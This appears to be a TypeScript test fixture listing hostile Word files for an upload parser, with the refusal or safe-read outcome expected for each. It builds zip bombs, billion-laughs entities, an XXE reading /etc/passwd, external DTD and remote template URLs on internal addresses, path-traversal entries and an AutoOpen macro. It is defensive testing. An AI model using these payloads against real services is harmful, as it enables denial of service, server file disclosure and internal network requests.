import { packed, packedBomb, utf8 } from '../files/bytes.ts';
import {
  documentEnd,
  documentOf,
  documentStart,
  docxOf,
  paragraph,
  relationsOf,
  wordParts,
} from '../files/office-bytes.ts';
import { entry, honestZip, zipOf } from '../files/zip-bytes.ts';
import { type HostileFile, read, refused } from './hostile-file.ts';

const question = 'Describe your project.';
const asked = documentOf(paragraph(`1. ${question} (max. 300 words)`));
const withType = (type: string, body: string) => asked.replace('?>', `?>${type}`).replace(question, body);

const document = (mebibytes: number) =>
  packedBomb(mebibytes, paragraph('water '), documentStart, documentEnd);

const laughs = `<!DOCTYPE w [<!ENTITY a0 "ha">${Array.from(
  { length: 12 },
  (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
).join('')}]>`;

export const wordFiles: HostileFile[] = [
  {
    id: 'docx-bomb',
    name: 'call.docx',
    bytes: () =>
      zipOf([
        ...Object.entries(wordParts()).map(([name, text]) => entry(name, text)),
        { name: 'word/document.xml', content: document(1024) },
      ]),
    outcomes: refused('expands-too-much'),
    why: 'A megabyte becomes a gibibyte.',
  },
  {
    id: 'docx-bomb-that-lies',
    name: 'call.docx',
    bytes: () =>
      zipOf([
        ...Object.entries(wordParts()).map(([name, text]) => entry(name, text)),
        { name: 'word/document.xml', content: document(1024), claimedSize: 4000 },
      ]),
    outcomes: refused('expands-too-much', 'damaged'),
    why: 'The headers claim four kilobytes: only who counts while unpacking notices.',
  },
  {
    id: 'docx-shared-entries',
    name: 'call.docx',
    bytes: () => {
      const content = packedBomb(16, ' ');
      const names = Array.from({ length: 2000 }, (_, at) => `word/media/image${at}.xml`);
      return zipOf(
        names.map((name) => ({ name: name.padEnd(30, 'x'), content })),
        new Map(),
        true,
      );
    },
    outcomes: refused('expands-too-much', 'too-complex', 'damaged', 'wrong-type', 'forbidden-content'),
    why: 'Two thousand entries share one piece of data: 32 gibibytes in all.',
  },
  {
    id: 'docx-nested-zip',
    name: 'call.docx',
    bytes: () => {
      const inner = zipOf([{ name: 'a.bin', content: packedBomb(1024, ' ') }]);
      const outer = zipOf(
        Array.from({ length: 16 }, (_, at) => ({ name: `${at}.zip`, content: packed(inner) })),
      );
      return docxOf(asked, {}, [{ name: 'word/embeddings/inner.zip', content: packed(outer) }]);
    },
    outcomes: read([question]),
    why: 'Archives inside the archive are never opened.',
  },
  {
    id: 'docx-external-entity',
    name: 'call.docx',
    bytes: () => docxOf(withType('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;')),
    outcomes: refused('forbidden-content'),
    why: 'It asks for a file of the server. No Word file has a document type.',
  },
  {
    id: 'docx-external-document-type',
    name: 'call.docx',
    bytes: () => docxOf(withType('<!DOCTYPE w SYSTEM "http://127.0.0.1:9/secret.dtd">', question)),
    outcomes: refused('forbidden-content'),
    why: 'It asks for an address of the inner network.',
  },
  {
    id: 'docx-billion-laughs',
    name: 'call.docx',
    bytes: () => docxOf(withType(laughs, '&a12;')),
    outcomes: refused('forbidden-content'),
    why: 'Entities that hold ten of the former each: two terabytes of laughter.',
  },
  {
    id: 'docx-path-outside',
    name: 'call.docx',
    bytes: () =>
      docxOf(asked, {}, [entry('../../../../tmp/harambee-was-here', 'x'), entry('/etc/cron.d/x', 'x')]),
    outcomes: [...refused('forbidden-content'), ...read([question])],
    why: 'Names that lead out of the archive: nothing is written anywhere.',
  },
  {
    id: 'docx-macros',
    name: 'form.docx',
    bytes: () => {
      const type = 'application/vnd.ms-word.document.macroEnabled.main+xml';
      return honestZip({
        ...wordParts(type),
        'word/document.xml': asked,
        'word/_rels/document.xml.rels': relationsOf(['rId9', 'vbaProject', 'vbaProject.bin']),
        'word/vbaProject.bin': 'Sub AutoOpen()\nShell "calc.exe"\nEnd Sub',
      });
    },
    outcomes: read([question], ['AutoOpen', 'calc.exe']),
    why: 'Funders send forms with macros. The text is read; macros are not text.',
  },
  {
    id: 'docx-remote-template',
    name: 'call.docx',
    bytes: () =>
      docxOf(asked, {
        'word/_rels/document.xml.rels': relationsOf(
          ['rId8', 'attachedTemplate', 'http://127.0.0.1:9/evil.dotm', true],
          ['rId9', 'image', 'file:///etc/passwd', true],
        ),
      }),
    outcomes: read([question], ['root:', 'evil.dotm']),
    why: 'Parts that lie elsewhere are never fetched.',
  },
  {
    id: 'docx-deep-nesting',
    name: 'call.docx',
    bytes: () => docxOf(documentOf('<w:sdt><w:sdtContent>'.repeat(100_000))),
    outcomes: refused('damaged', 'too-complex'),
    why: 'Two hundred thousand open elements end a parser that calls itself for each.',
  },
  {
    id: 'docx-many-entries',
    name: 'call.docx',
    bytes: () => {
      const content = packed(utf8(''));
      return docxOf(
        asked,
        {},
        Array.from({ length: 20_000 }, (_, at) => ({ name: `word/x${at}.xml`, content })),
      );
    },
    outcomes: [...read([question]), ...refused('too-complex')],
    why: 'Twenty thousand empty parts.',
  },
];
